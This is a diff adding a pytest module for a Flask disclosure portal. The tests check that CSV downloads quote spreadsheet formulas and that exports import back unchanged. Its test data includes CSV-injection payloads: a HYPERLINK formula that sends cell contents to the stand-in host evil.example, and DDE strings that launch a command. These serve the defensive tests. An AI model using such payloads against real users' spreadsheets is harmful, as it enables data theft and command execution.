@@ -1,0 +1,108 @@
+"""Every CSV the portal produces is safe to open in a spreadsheet and imports back unchanged."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from flask import Flask
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+
+from portal.csvfiles import FORMULA_PREFIXES
+from portal.models import get_region_by_code
+from publish.disclosures import COLUMN_NAMES, import_disclosures, read_table
+from publish.models import Disclosure
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
+SOURCES = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+CSV_ROUTES = {
+    "/disclosures/<int:disclosure_id>.csv",
+    "/disclosures/template.csv",
+    "/stats.csv",
+}
+
+
+def _row(year: int, source: str) -> dict[str, str]:
+    # A deficit year: the current balance is negative and must stay a number.
+    base = dict.fromkeys(COLUMN_NAMES, "")
+    base.update(
+        region_code="640000",
+        year=str(year),
+        period="Y",
+        fund="all",
+        unit="亿元",
+        income_total="80.00",
+        expenditure_total="100.00",
+        balance_current="-20.00",
+        balance_accumulated_previous="50.00",
+        balance_accumulated="30.00",
+        source=source,
+    )
+    return base
+
+
+@pytest.fixture
+def hostile(db: Session) -> list[int]:
+    """Disclosures whose sources are formulas, and a province whose name is one."""
+    ids = []
+    for year, source in enumerate(SOURCES, start=2020):
+        import_disclosures(db, [_row(year, source)], change_note="", actor_id=None)
+        ids.append(db.scalar(select(Disclosure.id).where(Disclosure.year == year)))
+    get_region_by_code(db, "640000").name_zh = HYPERLINK
+    db.commit()
+    return ids
+
+
+def _cells(body: bytes) -> list[str]:
+    return [cell for line in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in line]
+
+
+def _formulas(cells: list[str]) -> list[str]:
+    numbers = [c for c in cells if c.lstrip("+-").replace(".", "", 1).isdigit()]
+    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and c not in numbers]
+
+
+@pytest.mark.parametrize("index", range(len(SOURCES)))
+def test_a_disclosure_csv_quotes_a_source_that_is_a_formula(
+    client: Any, hostile: list[int], index: int
+) -> None:
+    cells = _cells(client.get(f"/disclosures/{hostile[index]}.csv").data)
+    assert _formulas(cells) == [] and "'" + SOURCES[index] in cells
+
+
+def test_a_disclosure_csv_keeps_a_negative_balance_a_number(
+    client: Any, hostile: list[int]
+) -> None:
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/disclosures/{hostile[0]}.csv").text)))
+    assert rows[0]["balance_current"] == "-20.00"
+
+
+def test_the_statistics_csv_quotes_a_region_name_that_is_a_formula(
+    client: Any, hostile: list[int]
+) -> None:
+    cells = _cells(client.get("/stats.csv").data)
+    assert _formulas(cells) == [] and "'" + HYPERLINK in cells
+
+
+def test_the_import_template_holds_no_formula(client: Any) -> None:
+    assert _formulas(_cells(client.get("/disclosures/template.csv").data)) == []
+
+
+def test_every_csv_route_is_checked_here(app: Flask) -> None:
+    assert {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")} == CSV_ROUTES
+
+
+def test_a_downloaded_disclosure_imports_back_unchanged(
+    client: Any, db: Session, hostile: list[int]
+) -> None:
+    # Imports strip surrounding blanks, so only sources an import can hold go round.
+    for disclosure_id, source in zip(hostile, SOURCES, strict=True):
+        if source != source.strip():
+            continue
+        data = client.get(f"/disclosures/{disclosure_id}.csv").data
+        result = import_disclosures(db, read_table("back.csv", data), change_note="", actor_id=None)
+        assert (result.unchanged, result.revised) == (1, 0)
+        assert db.get(Disclosure, disclosure_id).current.source == source
